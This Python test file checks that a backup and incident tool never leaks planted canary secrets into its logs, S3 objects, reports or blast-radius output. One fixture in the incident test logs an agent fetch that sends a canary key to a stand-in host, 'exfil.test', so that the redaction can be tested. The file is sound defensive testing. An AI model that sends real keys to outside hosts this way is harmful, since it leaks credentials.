"""Planted secrets never leak (issue #9, item 4; service API keys, issue 19).

Canaries go into the running stack's env files (tokens, keys, a model URL with a password in it;
the services' API keys sbx reads from the compose model, one on a command line), into Prefect
blocks (the age identity and a service API key of an sbx-secrets block, the keys of the
AwsCredentials block used for S3, the URL of an sbx-apprise alert block) and into the AWS_*
environment. Then the operator's day runs through the real CLI against the test Prefect server:
backup, copy to S3 (encrypted), verify and restore from the copy, health (failing, so an alert
is sent and its delivery fails), status, and two failing commands (an S3 endpoint refusing the
credentials, a wrong age identity). Everything produced is scanned: CLI stdout/stderr, Prefect
logs, run states and artifacts, every key and body in the bucket, the local repository's non-
content files, the stack's .sbx state, and PREFECT_HOME. One hit fails the test, naming where it
was.
"""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import pyrage
import pytest
from bed import S3Server
from bed.stack import create_mount_sources

from .canary import Scan, canary, denying_s3
from .figures import FaultFigures

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "stack"

# the flow tests' CLI runner lives in a folder that is no package (as tests/offbox does)
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "flows"))
from helpers import cli_env, sbx  # noqa: E402


def _plant_env_files(stack: Path, canaries: dict[str, str]) -> None:
    env = stack / "env"
    (env / "secrets.env").write_text(f"API_TOKEN={canaries['env-token']}\n")
    (env / "secrets.env").chmod(0o600)
    with (env / "worker.env").open("a") as worker:
        worker.write(f"HF_TOKEN={canaries['hf-token']}\n")
        # a model source with credentials in its URL: read as a model setting by name
        worker.write(
            f"MODEL_DOWNLOAD_URL=https://box:{canaries['model-url-password']}"
            "@models.example.invalid/qwen\n"
        )
    webui = (env / "webui.env").read_text()
    webui = webui.replace("WEBUI_SECRET_KEY=change-me", f"WEBUI_SECRET_KEY={canaries['webui']}")
    webui = webui.replace(
        "OPENAI_API_KEY=example-worker-key-change-me", f"OPENAI_API_KEY={canaries['openai-key']}"
    )
    (env / "webui.env").write_text(webui)
    # the services' API keys (issue 19): sbx reads them from the compose model to send them
    planted = {
        "example-qdrant-key-change-me": canaries["qdrant-key"],
        "example-worker-key-change-me": canaries["worker-key"],
        "example-watchdog-key-change-me": canaries["watchdog-key"],
    }
    # (the vLLMs' --api-key values are interpolated from env/stack.env: on their command lines)
    for name in ("stack.env", "qdrant.env", "worker.env", "webui.env", "proxy.env"):
        text = (env / name).read_text()
        for placeholder, value in planted.items():
            text = text.replace(placeholder, value)
        (env / name).write_text(text)
    with (env / "qdrant.env").open("a") as qdrant:
        qdrant.write(f"QDRANT__SERVICE__READ_ONLY_API_KEY={canaries['qdrant-read-only-key']}\n")
    # and one written out on a command line, as `vllm serve ... --api-key KEY` puts it
    compose = stack / "services.yml"
    wired = "${WATCHDOG_API_KEY:?set in env/stack.env}"
    assert wired in compose.read_text()
    compose.write_text(compose.read_text().replace(wired, canaries["cli-api-key"]))


def _save_blocks(names: dict[str, str], canaries: dict[str, str], s3: S3Server) -> None:
    from prefect_aws import AwsClientParameters, AwsCredentials
    from pydantic import SecretStr

    from blocks.alerts import SbxApprise
    from blocks.box import SbxSecrets

    SbxSecrets(
        age_identity=SecretStr(canaries["age-identity"]),
        aws_access_key_id=SecretStr(canaries["secrets-block-key-id"]),
        aws_secret_access_key=SecretStr(canaries["secrets-block-secret"]),
        alert_webhook_url=SecretStr(f"https://hooks.example.invalid/{canaries['webhook']}"),
        api_keys={"open-webui": SecretStr(canaries["block-api-key"])},
    ).save(names["secrets"], overwrite=True)
    AwsCredentials(
        aws_access_key_id=canaries["aws-block-key-id"],
        aws_secret_access_key=SecretStr(canaries["aws-block-secret"]),
        region_name=s3.region,
        aws_client_parameters=AwsClientParameters(endpoint_url=s3.endpoint_url),
    ).save(names["aws"], overwrite=True)
    # nothing listens on port 9: the alert's delivery fails, and its error is scanned too
    SbxApprise(url=SecretStr(f"json://127.0.0.1:9/{canaries['apprise']}")).save(
        names["apprise"], overwrite=True
    )


# apprise's email plugin imports the stdlib's imghdr, deprecated in 3.11 (their shim, not ours)
@pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")
def test_planted_secrets_appear_nowhere_sbx_writes(
    prefect_server: str,
    s3_server: S3Server,
    run_id: str,
    tmp_path: Path,
    fault_figures: FaultFigures,
    request: pytest.FixtureRequest,
) -> None:
    identity = pyrage.x25519.Identity.generate()
    names = {kind: f"faults-{kind}-{run_id}" for kind in ("secrets", "aws", "apprise")}
    canaries = {
        name: canary(name.replace("-", ""))
        for name in (
            "env-token",
            "hf-token",
            "model-url-password",
            "webui",
            "openai-key",
            "secrets-block-key-id",
            "secrets-block-secret",
            "webhook",
            "aws-block-key-id",
            "aws-block-secret",
            "apprise",
            "env-aws-key-id",
            "env-aws-secret",
            "qdrant-key",
            "qdrant-read-only-key",
            "worker-key",
            "watchdog-key",
            "cli-api-key",
            "block-api-key",
        )
    }
    canaries["age-identity"] = str(identity)
    # the example stack's files, no containers: health and status fail fast (nothing runs),
    # backup still records the box state (env model settings) in the manifest
    stack = tmp_path / f"files-{run_id}"
    skip = shutil.ignore_patterns("images", "open-webui", "qdrant", ".sbx")
    shutil.copytree(EXAMPLE, stack, symlinks=True, ignore=skip)
    create_mount_sources(stack)  # as `compose up` would: a missing named source fails a part
    _plant_env_files(stack, canaries)
    _save_blocks(names, canaries, s3_server)
    bucket = s3_server.make_bucket()
    offbox = f"s3://{bucket}/box"
    with (stack / "sbx.toml").open("a") as toml:
        toml.write(
            f'\n[offbox]\nurl = "{offbox}"\ncredentials_block = "{names["aws"]}"\n'
            f'secrets_block = "{names["secrets"]}"\n'
            f'\n[alerts.ops]\nblock = "sbx-apprise/{names["apprise"]}"\n'
            # any snapshot is too old: the health run fails and sends an alert
            "\n[health]\nrpo_hours = 0.0001\n"
        )
    env = cli_env(
        prefect_server,
        {
            "SBX_AGE_RECIPIENTS": str(identity.to_public()),
            "AWS_ACCESS_KEY_ID": canaries["env-aws-key-id"],
            "AWS_SECRET_ACCESS_KEY": canaries["env-aws-secret"],
            "AWS_DEFAULT_REGION": s3_server.region,
        },
    )
    repo = tmp_path / "repo"
    restored = tmp_path / "restored"
    at = ["--stack", str(stack)]
    stranger = tmp_path / "stranger.txt"
    stranger.write_text(f"{pyrage.x25519.Identity.generate()}\n")
    scan = Scan(canaries)
    outcomes: dict[str, int] = {}
    stderr: dict[str, str] = {}

    def run(label: str, *args: str, extra: dict[str, str] | None = None) -> int:
        done = sbx(*args, env={**env, **(extra or {})}, timeout=300)
        assert "Starting temporary server" not in done.stderr, done.stderr
        # a failed flow run prints Prefect's traceback on stderr: scanned like the rest
        scan.text(f"stdout of {label}", done.stdout)
        scan.text(f"stderr of {label}", done.stderr)
        outcomes[label] = done.returncode
        stderr[label] = done.stderr
        return done.returncode

    assert run("backup", "backup", *at, "--repo", str(repo)) == 0
    assert run("copy", "copy", *at, "--repo", str(repo)) == 0
    assert run("verify", "verify", *at, "--repo", offbox) == 0
    assert run("restore", "restore", "latest", *at, "--repo", offbox, "--to", str(restored)) == 0
    assert (restored / "env" / "secrets.env").read_text().strip().endswith(canaries["env-token"])
    assert run("health", "health", *at) == 1  # nothing runs; the snapshot is older than the RPO
    # the alert went through the sbx-apprise block (and failed at its receiver, port 9)
    assert "alert not delivered" in stderr["health"], stderr["health"][-3000:]
    assert "UnknownBlockType" not in stderr["health"], stderr["health"][-3000:]
    assert run("status", "status", *at) == 1  # nothing runs
    with denying_s3() as endpoint:
        refused = run("copy refused", "copy", *at, "--repo", str(repo),
                      extra={"SBX_OFFBOX__ENDPOINT_URL": endpoint})  # fmt: skip
    assert refused == 1, outcomes
    wrong = {"SBX_AGE_IDENTITY_FILE": str(stranger)}
    nope = str(tmp_path / "nope")
    wrong_key = run("restore with a wrong identity", "restore", "latest", *at, "--repo", offbox,
                    "--to", nope, extra=wrong)  # fmt: skip
    assert wrong_key == 2, outcomes

    objects = scan.bucket(s3_server.client(), bucket)
    assert objects > 3
    read = scan.prefect()
    assert read.get("log", 0) > 10 and read.get("artifact", 0) > 0, read
    scan.files("local repository", repo, skip=("objects/",))
    scan.files("stack .sbx", stack / ".sbx")
    scan.files("PREFECT_HOME", Path(os.environ["PREFECT_HOME"]))
    fault_figures.add(request.node.name, canary_hits=len(scan.hits))
    assert not scan.hits, (
        f"{len(scan.hits)} canary hit(s) in {scan.places} places scanned:\n" + "\n".join(scan.hits)
    )


def test_model_settings_in_the_manifest_carry_no_url_credentials(tmp_path: Path) -> None:
    from tasks.backup.box_state import read_model_settings

    secret = canary("modelurl")
    (tmp_path / "worker.env").write_text(
        f"MODEL=Qwen/Qwen2.5-7B\nMODEL_URL=https://box:{secret}@models.example/q\n"
        f"MODEL_MIRROR=https://m.example/q?rev=2&token={secret}\nHF_TOKEN={secret}\n"
    )
    settings = read_model_settings(tmp_path)["worker"]
    assert settings == {
        "MODEL": "Qwen/Qwen2.5-7B",
        "MODEL_URL": "https://***@models.example/q",
        "MODEL_MIRROR": "https://m.example/q?rev=2&token=***",
    }


def test_incident_evidence_blast_radius_and_report_carry_no_planted_secret(
    tmp_path: Path, fault_figures: FaultFigures, request: pytest.FixtureRequest
) -> None:
    """#23 finding 8: a key value on a command line (vLLM's --api-key), in a label, in a path a
    client requested or a URL an agent fetched, or anywhere in inspect output, reaches neither
    the evidence bundle's inspect and compose files, nor blast-radius.json, nor report.md."""
    import json
    from datetime import UTC, datetime, timedelta

    from blocks.config import load_config
    from tasks.incident.evidence import redact_compose
    from tasks.incident.history import read_blast_radius
    from tasks.incident.keys import key_fingerprint
    from tasks.incident.radius import scan_agents, scan_proxy
    from tasks.incident.record import IncidentInfo
    from tasks.incident.redact import key_rule
    from tasks.incident.report import FlowRunsRead, build_report, render_markdown

    names = ("proxy-key", "cli-key", "label-token", "cmd-token", "db-password")
    canaries = {name: canary(name.replace("-", "")) for name in names}
    stack = tmp_path / "stack"
    (stack / "proxy").mkdir(parents=True)
    (stack / "proxy" / "keys.txt").write_text(f"ops {canaries['proxy-key']}\n")
    rule = key_rule(load_config(stack))
    inspect = {
        "Args": ["--model", "m", "--api-key", canaries["cli-key"]],
        "Path": "vllm",
        "Config": {
            "Cmd": [
                "serve",
                f"--api-key={canaries['proxy-key']}",
                "--token",
                canaries["cmd-token"],
            ],
            "Env": [f"DB_PASSWORD={canaries['db-password']}"],
            "Labels": {"com.example.api_token": canaries["label-token"], "x": "plain"},
        },
        "Mounts": [{"Source": f"/srv/{canaries['proxy-key']}"}],
    }
    compose = {"services": {"worker": {
        "command": f"vllm serve --api-key {canaries['cli-key']} --port 8000",
        "entrypoint": ["sh", "-c", "run", f"HF_TOKEN={canaries['cmd-token']}"],
        "labels": [f"com.example.db-password={canaries['db-password']}"],
        "environment": {"X": canaries["label-token"]},
    }}}  # fmt: skip
    bundle_inspect = json.dumps(rule.inspect(inspect))
    bundle_compose = json.dumps(redact_compose(compose, rule))
    assert "plain" in bundle_inspect and "--port" in bundle_compose  # the rest stays

    now = datetime.now(UTC)
    since = now - timedelta(hours=1)
    log = stack / "logs" / "proxy" / "access.log"
    log.parent.mkdir(parents=True)
    stamp = now.strftime("%d/%b/%Y:%H:%M:%S +0000")
    fp = key_fingerprint(canaries["proxy-key"])
    log.write_text(
        f'198.51.100.66 - {fp} [{stamp}] "GET /v1/x?k=1 HTTP/1.1" 200 1 "-" "ua"\n'
        f'198.51.100.66 - {fp} [{stamp}] "GET /v1/{canaries["proxy-key"]}/models HTTP/1.1" '
        '200 1 "-" "ua"\n'
    )
    proxy = scan_proxy(stack, ["logs/proxy/access.log*"], since, None, ["10.0.0.0/8"],
                       {fp: "ops"}, rule)  # fmt: skip
    assert proxy.api_keys[0].paths_total == 2
    fetches = stack / "logs" / "agents" / "internet-research.jsonl"
    fetches.parent.mkdir(parents=True)
    fetched = {"time": now.isoformat(), "fetched": True, "allowed": False,
               "url": f"http://exfil.test/?k={canaries['proxy-key']}"}  # fmt: skip
    fetches.write_text(json.dumps(fetched) + "\n")
    agents = scan_agents(stack, ["logs/agents/*.jsonl*"], since, None, {}, rule)
    assert len(agents.off_list) == 1
    radius_json = proxy.model_dump_json() + agents.model_dump_json()
    incident = stack / ".sbx" / "incidents" / "x"
    incident.mkdir(parents=True)
    saved = {"flagged_keys": [fp], "off_list_urls": [f.url for f in agents.off_list]}
    (incident / "blast-radius.json").write_text(json.dumps(saved))
    info = IncidentInfo(id="x", opened_at=now, opened_by="blast-radius")
    report = build_report(info, [], [], FlowRunsRead(available=True), read_blast_radius(stack, "x"))
    report_md = render_markdown(report)

    scan = Scan(canaries)
    scan.text("containers/worker.inspect.json", bundle_inspect)
    scan.text("compose/config.json", bundle_compose)
    scan.text("blast-radius.json", radius_json)
    scan.text("report.md", report_md)
    fault_figures.add(request.node.name, canary_hits=len(scan.hits))
    assert not scan.hits, scan.hits
